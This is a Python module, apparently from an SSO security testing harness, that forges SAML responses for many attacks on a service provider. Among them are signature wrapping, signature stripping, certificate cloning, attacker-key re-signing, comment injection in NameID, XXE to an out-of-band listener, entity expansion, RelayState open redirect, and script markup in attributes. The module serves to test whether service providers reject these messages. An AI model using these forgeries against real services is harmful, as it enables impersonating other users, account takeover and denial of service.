"""From "a legitimately signed response for user A" to the crafted message of each attack.

Pure: :func:`forge` takes what the attacker holds (:class:`SamlMaterial`)
and returns the SAMLResponse octets and RelayState to deliver, or raises
:class:`NotForgeable` saying why this attack cannot be mounted with what
the attacker holds (no key the SP trusts), or
:class:`~sso_harness.apps.security.saml_xsw.XswNotApplicable` when the
legitimate response itself lacks the signature a wrapping shape abuses (the
attack does not apply to this IdP's responses at all).

Every crafted message is right for the SP in every respect but the one under
attack (same ACS, audience, InResponseTo of the request the SP just sent),
so a refusal can only come from the check the attack targets.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from cryptography import x509
from lxml import etree

from sso_harness.apps.security.catalogue import Attack
from sso_harness.apps.security.saml_mint import Minted, Persona, SamlSigner, SignWhat, SpFacts, mint
from sso_harness.apps.security.saml_tamper import (
    LAUGHS,
    AttackerKey,
    clone_certificate,
    entity_expansion,
    external_entity_probe,
    inject_comment,
    resign,
    serialize,
    strip_signatures,
    with_doctype,
)
from sso_harness.apps.security.saml_xml import first_assertion, fresh_id, set_name_id
from sso_harness.apps.security.saml_xsw import XswNotMountable, wrap
from sso_harness.protocols import DecodeError
from sso_harness.protocols.xml.dsig.keys import certificate_from_keyinfo_text

__all__ = ["SamlMaterial", "Forged", "NotForgeable", "forge", "EXPANSION_ATTRIBUTE", "OTHER_SP", "FAR_FUTURE", "markup"]

EXPANSION_ATTRIBUTE = "urn:sso-harness:attack:expansion"
OTHER_SP = "https://sp.attacker.invalid"
FAR_FUTURE = dt.datetime(2100, 1, 1, tzinfo=dt.timezone.utc)
COMMENT_SUFFIX = ".evil.example"


@dataclass(frozen=True)
class SamlMaterial:
    """What the attacker holds for one attempt.

    ``signer`` mints responses the SP trusts (our own IdP); without it only
    ``captured`` (a response obtained through a normal login) is available,
    and attacks that must be signed by the IdP cannot be mounted.
    ``request_id``/``relay_state`` come from the AuthnRequest the SP just
    sent (None: no SP-initiated start). ``idp_certificate`` is the IdP's
    certificate, the template of the cloned one.
    """

    sp: SpFacts
    user: Persona
    victim: Persona
    attacker_key: AttackerKey = field(repr=False)
    now: dt.datetime
    signer: SamlSigner | None = None
    captured: etree._Element | None = field(default=None, repr=False)
    idp_certificate: x509.Certificate | None = None
    request_id: str | None = None
    relay_state: str | None = None
    oob_url: str = ""
    external_url: str = ""
    marker: str = "sso-harness-markup"


@dataclass(frozen=True)
class Forged:
    xml: bytes
    relay_state: str | None
    note: str


class NotForgeable(ValueError):
    """This attack cannot be mounted with the material at hand; the message says why."""


def markup(marker: str) -> str:
    """Attribute value carrying HTML and script; ``#marker`` appears in the DOM only if rendered raw."""
    return f"<b id=\"{marker}\">sso-harness</b><script>window.ssoHarnessMarkup='{marker}'</script>"


def _minted(m: SamlMaterial, params: Minted = Minted(), persona: Persona | None = None) -> etree._Element:
    if m.signer is None:
        raise NotForgeable("needs a response signed by a key the SP trusts, and only a captured response is available")
    params = replace(params, in_response_to=params.in_response_to if params.in_response_to is not None else m.request_id)
    return mint(m.signer, m.sp, persona or m.user, now=m.now, params=params)


def _legit(m: SamlMaterial, sign: SignWhat = "both") -> etree._Element:
    if m.signer is not None:
        return _minted(m, Minted(sign=sign))
    if m.captured is None:
        raise NotForgeable("holds no legitimately signed response")
    return m.captured


def _victim(m: SamlMaterial) -> Callable[[etree._Element], None]:
    return lambda assertion: set_name_id(assertion, m.victim.name_id)


def _out(root: etree._Element, m: SamlMaterial, note: str, relay: str | None = None) -> Forged:
    return Forged(serialize(root), relay if relay is not None else m.relay_state, note)


def _xsw(n: int) -> Callable[[SamlMaterial], Forged]:
    def build(m: SamlMaterial) -> Forged:
        base = _legit(m, "response" if n <= 2 else "assertion")
        try:
            root = wrap(n, base, _victim(m))  # XswNotApplicable goes on: a fact about the response
        except XswNotMountable as exc:
            raise NotForgeable(str(exc)) from None
        return _out(root, m, f"XSW{n} around the signed response; evil NameID {m.victim.name_id}")

    return build


def _exclusion(m: SamlMaterial) -> Forged:
    root = strip_signatures(_legit(m))
    assertion = first_assertion(root)
    if assertion is None:
        raise NotForgeable("the response carries no plaintext assertion")
    set_name_id(assertion, m.victim.name_id)
    return _out(root, m, f"all signatures removed; NameID {m.victim.name_id}")


def _captured_certificate(m: SamlMaterial) -> x509.Certificate | None:
    """The first certificate a captured response's signatures carry in their KeyInfo (None: none readable)."""
    if m.captured is None:
        return None
    for el in m.captured.iter("{http://www.w3.org/2000/09/xmldsig#}X509Certificate"):
        try:
            return certificate_from_keyinfo_text(el.text or "")
        except DecodeError:
            continue
    return None


def _cert_clone(m: SamlMaterial) -> Forged:
    # The target's declared certificate comes first; a captured response's own KeyInfo is the
    # fallback, since an IdP that sends it hands every attacker the template anyway.
    original = m.signer.certificate if m.signer else (m.idp_certificate or _captured_certificate(m))
    if original is None:
        raise NotForgeable("the IdP's certificate is unknown (no signing_certs or metadata in the target, "
                           "none in the captured response), so there is nothing to clone")
    key = m.attacker_key[0]
    cloned = clone_certificate(original, key)
    root = resign(_legit(m), (key, cloned), evil_name_id=m.victim.name_id)
    return _out(root, m, f"re-signed with a cloned certificate ({original.subject.rfc4514_string()}); NameID {m.victim.name_id}")


def _keyinfo_key(m: SamlMaterial) -> Forged:
    root = resign(_legit(m), m.attacker_key, evil_name_id=m.victim.name_id)
    subject = m.attacker_key[1].subject.rfc4514_string()
    return _out(root, m, f"re-signed with the attacker's key ({subject}) in KeyInfo; NameID {m.victim.name_id}")


def _comment(m: SamlMaterial) -> Forged:
    extended = m.victim.name_id + COMMENT_SUFFIX
    root = inject_comment(_minted(m, Minted(name_id=extended)), keep=m.victim.name_id)
    return _out(root, m, f"signed NameID {extended}, split by a comment after {m.victim.name_id}")


def _minted_with(note: str, params: Callable[[SamlMaterial], Minted]) -> Callable[[SamlMaterial], Forged]:
    def build(m: SamlMaterial) -> Forged:
        return _out(_minted(m, params(m)), m, note)

    return build


def _unsolicited(m: SamlMaterial) -> Forged:
    root = _minted(m, Minted(in_response_to=""))
    return Forged(serialize(root), None, "no InResponseTo (IdP-initiated), delivered without an AuthnRequest")


def _irt_mismatch(m: SamlMaterial) -> Forged:
    other = fresh_id("_never_requested")
    return _out(_minted(m, Minted(in_response_to=other)), m, f"InResponseTo {other}")


def _xxe(m: SamlMaterial) -> Forged:
    if not m.oob_url:
        raise NotForgeable("no out-of-band listener the SP could reach")
    xml = with_doctype(serialize(_legit(m)), external_entity_probe(m.oob_url))
    return Forged(xml, m.relay_state, f"DOCTYPE with an external parameter entity {m.oob_url}")


def _expansion(m: SamlMaterial) -> Forged:
    attributes = {**dict(m.user.attributes), EXPANSION_ATTRIBUTE: (LAUGHS,)}
    xml = entity_expansion(serialize(_minted(m, Minted(attributes=attributes))))
    return Forged(xml, m.relay_state, "a three-level entity chain in a signed attribute value")


def _open_redirect(m: SamlMaterial) -> Forged:
    if not m.external_url:
        raise NotForgeable("no external landing page")
    return Forged(serialize(_legit(m)), m.external_url, f"RelayState {m.external_url}")


def _html(m: SamlMaterial) -> Forged:
    value = markup(m.marker)
    names = list(m.user.attributes) or ["http://schemas.microsoft.com/identity/claims/displayname"]
    attributes = {name: (value,) for name in names}
    return _out(_minted(m, Minted(attributes=attributes)), m, f"markup with id {m.marker} in {len(names)} attribute(s)")


_RECIPES: dict[str, Callable[[SamlMaterial], Forged]] = {
    "saml-baseline": lambda m: _out(_legit(m), m, "the legitimately signed response, untouched"),
    **{f"saml-xsw{n}": _xsw(n) for n in range(1, 9)},
    "saml-signature-exclusion": _exclusion,
    "saml-cert-clone": _cert_clone,
    "saml-keyinfo-key": _keyinfo_key,
    "saml-comment-injection": _comment,
    "saml-expired": _minted_with("issued 2 h ago: valid until 1 h ago",
                                 lambda m: Minted(issue_instant=m.now - dt.timedelta(hours=2))),
    "saml-not-yet-valid": _minted_with("issued 2 h ahead: NotBefore in 1 h 55 min",
                                       lambda m: Minted(issue_instant=m.now + dt.timedelta(hours=2))),
    "saml-far-future": _minted_with("issued on 2100-01-01", lambda m: Minted(issue_instant=FAR_FUTURE)),
    "saml-wrong-audience": _minted_with(f"Audience {OTHER_SP}/metadata", lambda m: Minted(audience=f"{OTHER_SP}/metadata")),
    "saml-wrong-recipient": _minted_with(f"Recipient {OTHER_SP}/acs", lambda m: Minted(recipient=f"{OTHER_SP}/acs")),
    "saml-wrong-destination": _minted_with(f"Destination {OTHER_SP}/acs", lambda m: Minted(destination=f"{OTHER_SP}/acs")),
    "saml-replay": lambda m: _out(_legit(m), m, "a legitimate response, delivered twice"),
    "saml-unsolicited": _unsolicited,
    "saml-in-response-to-mismatch": _irt_mismatch,
    "saml-xxe": _xxe,
    "saml-entity-expansion": _expansion,
    "saml-open-redirect": _open_redirect,
    "saml-attribute-html": _html,
}


def forge(attack: Attack, material: SamlMaterial) -> Forged:
    """The crafted message for ``attack``; :class:`NotForgeable` when it cannot be mounted,
    :class:`~sso_harness.apps.security.saml_xsw.XswNotApplicable` when it does not apply."""
    recipe = _RECIPES.get(attack.id)
    if recipe is None:
        raise NotForgeable(f"{attack.id} is not a SAML attack")
    return recipe(material)
